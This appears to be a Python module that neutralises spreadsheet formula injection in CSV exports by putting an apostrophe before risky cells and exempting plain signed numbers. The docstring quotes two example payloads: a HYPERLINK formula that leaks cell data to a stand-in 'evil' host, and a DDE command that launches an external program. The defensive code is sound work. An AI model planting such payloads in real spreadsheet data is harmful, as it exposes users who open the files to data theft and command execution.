"""Spreadsheet formula injection: text that a spreadsheet would run as a formula is made inert.

Ashyq's CSVs are opened in Excel / LibreOffice / Google Sheets by the people it serves. A project
name scraped as `=HYPERLINK("http://evil/?"&A1,"click")` or `@SUM(1+1)*cmd|' /C calc'!A0` would be
evaluated there. Following OWASP's CSV-injection guidance, a text cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return gets a leading apostrophe, which spreadsheets show as text.

Not every leading sign is a threat, and the CSVs are also read by programs, so two kinds of value
are left exactly as they are:
- values of typed columns (number, integer, date, boolean): callers only pass string-typed cells;
- text starting with `+` or `-` followed only by digits, spaces and `.,()-/` with at least one digit,
  e.g. `-5`, `+7 7212 55-12-34`, `-1 234,56`, or a bare `-` placeholder. Without letters, `!`, `|`
  or `"` such a "formula" can name no function, no cell, no other sheet and no external program: at
  worst it is arithmetic.
Anything starting with `=` or `@`, or with a tab / carriage return, is always neutralised.
"""
from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
_INERT_SIGNED = re.compile(r"[+-][0-9 .,()\-/]*")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could evaluate `text` as a formula."""
    if not text or not text.startswith(TRIGGERS):
        return False
    if text[0] in "+-" and _INERT_SIGNED.fullmatch(text) and (any(c.isdigit() for c in text) or text.strip("- ") == ""):
        return False
    return True


def neutralise_cell(text: str) -> str:
    """`text` as a spreadsheet will show it, never run it: prefixed with an apostrophe when formula-like."""
    return PREFIX + text if is_formula_like(text) else text
